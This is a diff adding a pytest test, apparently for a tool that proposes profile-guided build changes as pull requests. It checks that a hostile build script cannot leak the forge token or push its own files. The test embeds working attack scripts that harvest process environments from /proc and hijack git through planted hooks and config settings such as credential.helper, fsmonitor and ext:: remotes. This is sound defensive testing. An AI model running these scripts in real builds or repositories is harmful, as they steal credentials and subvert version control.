@@ -1,0 +1,142 @@
+"""A build that does what it can to get the token, or its own files into the pull request."""
+
+import logging
+import tempfile
+from base64 import b64encode
+
+import pytest
+
+from fleetpgo.proposal.body import Provenance
+from fleetpgo.proposal.forges import connect
+from fleetpgo.proposal.git import git
+from fleetpgo.service.rules import Service
+from fleetpgo.steps.propose import propose
+from tests.proposal.forges.doubles import PROJECT, TOKEN
+from tests.proposal.forges.merging import push_files
+
+SECRETS = (TOKEN, b64encode(f"x-access-token:{TOKEN}".encode()).decode())
+
+THIEF = """\
+#!/bin/sh
+# Run by any git that can be made to: keeps all that it and its parents can see.
+{ env; cat /proc/$PPID/environ; cat /proc/$PPID/cmdline; } >> LOOT/thief 2>&1
+exit 0
+"""
+
+# What a build script tries, each part for itself: a part that fails must not end the others.
+ATTACK = r"""
+env > LOOT/environment
+pid=$$
+while [ "$pid" -gt 1 ]; do
+  tr '\0' '\n' < /proc/$pid/environ >> LOOT/ancestors
+  pid=$(awk '/^PPid/ { print $2 }' /proc/$pid/status)
+done
+
+echo mine > extra.txt
+git add --force extra.txt
+git -c user.name=Mallory -c user.email=mallory@example.com commit --quiet --message Mine extra.txt
+echo staged > staged.txt
+git add --force staged.txt
+
+# This clone, every directory above it up to the one for temporary files, all that lies there, and the home.
+git init --quiet ..
+git init --quiet "$TMPDIR"
+for repository in "$PWD/.git" ../.git "$TMPDIR/.git" "$TMPDIR"/fleetpgo-* "$TMPDIR"/fleetpgo-*/*/.git; do
+  mkdir -p "$repository/hooks"
+  for hook in pre-push pre-commit post-commit commit-msg post-checkout post-index-change \
+    reference-transaction pre-auto-gc; do
+    cp LOOT/thief.sh "$repository/hooks/$hook"
+  done
+done
+for config in "$PWD/.git/config" ../.git/config "$TMPDIR/.git/config" "$HOME/.gitconfig"; do
+  put() { git config --file "$config" "$@"; }
+  origin=$(git config --file LOOT/origin remote.origin.url)
+  put core.hooksPath "LOOT/hooks"
+  put core.sshCommand LOOT/thief.sh
+  put core.fsmonitor LOOT/thief.sh
+  put core.askPass LOOT/thief.sh
+  put core.alternateRefsCommand LOOT/thief.sh
+  put credential.helper '!LOOT/thief.sh'
+  put protocol.ext.allow always
+  put remote.origin.url "ext::LOOT/thief.sh %S"
+  put remote.origin.pushurl "ext::LOOT/thief.sh %S"
+  put "url.ext::LOOT/thief.sh .insteadOf" "$origin"
+  put uploadpack.packObjectsHook LOOT/thief.sh
+done
+exit 0
+"""
+
+
+@pytest.fixture
+def service():
+    return Service.model_validate(
+        {
+            "name": "tiny",
+            "prometheus": {"connection": "prometheus"},
+            "selection": {"cpu": "up"},
+            "repository": {"forge": "github", "connection": "forge", "project": PROJECT},
+            "build": {"binary": "bin/tiny", "timeout": "3m", "explain": False},
+            "rollout": {"fraction": "up"},
+            "measurement": {"cpu": "up"},
+        }
+    )
+
+
+@pytest.fixture
+def loot(tmp_path):
+    """A directory where the build may write what it finds."""
+    directory = tmp_path / "loot"
+    (directory / "hooks").mkdir(parents=True)
+    thief = THIEF.replace("LOOT", str(directory))
+    for name in ("thief.sh", "hooks/pre-push", "hooks/reference-transaction"):
+        (directory / name).write_text(thief)
+        (directory / name).chmod(0o755)
+    return directory
+
+
+@pytest.fixture
+def cache(tmp_path, go_cache):
+    """A home of its own for the build, which fills it with traps; what is compiled already is shared."""
+    directory = tmp_path / "cache"
+    directory.mkdir()
+    (go_cache / "go-build").mkdir(exist_ok=True)
+    (directory / "go-build").symlink_to(go_cache / "go-build")
+    return directory
+
+
+def contents(*directories):
+    """All that lies in files below directories, names included."""
+    return b"".join(
+        str(file).encode() + file.read_bytes()
+        for directory in directories
+        for file in directory.rglob("*")
+        if file.is_file() and "go-build" not in file.parts
+    ).decode(errors="replace")
+
+
+def test_a_build_that_attacks_gets_neither_the_token_nor_its_files_into_the_pull_request(
+    serve, service, loot, cache, tmp_path, monkeypatch, caplog, go_profile
+):
+    double = serve("github")
+    temporary = tmp_path / "temporary"
+    temporary.mkdir()
+    monkeypatch.setenv("TMPDIR", str(temporary))
+    monkeypatch.setattr(tempfile, "tempdir", None)
+    git(tmp_path, "config", "--file", str(loot / "origin"), "remote.origin.url", f"{double.address}/")
+    recipe = "build:\n\tsh attack.sh\n\tgo build -buildvcs=false -o bin/tiny .\n"
+    files = {"attack.sh": ATTACK.replace("LOOT", str(loot)), "Makefile": recipe}
+    push_files(double.bare, "main", files)
+    caplog.set_level(logging.DEBUG)
+
+    forge = connect("github", PROJECT, address=double.address, token=TOKEN)
+    provenance = Provenance(run="run-1", query="up", selected=1, missing={}, samples=9)
+    propose(service, forge, go_profile, provenance, dry_run=False, cache=cache)
+
+    # The attack did run, and what git it ran by itself did fall for it.
+    assert "GOCACHE=" in (loot / "environment").read_text()
+    assert (cache / "home" / ".gitconfig").is_file()
+    seen = contents(loot, temporary, cache) + caplog.text + double.kept + str(double.pull(1))
+    assert [secret for secret in SECRETS if secret in seen] == []
+    changed = git(double.bare, "diff", "--name-only", "main", "fleetpgo/tiny")
+    assert changed == "Makefile\npgo/profile.pprof"
+    assert git(double.bare, "rev-parse", "fleetpgo/tiny^") == git(double.bare, "rev-parse", "main")
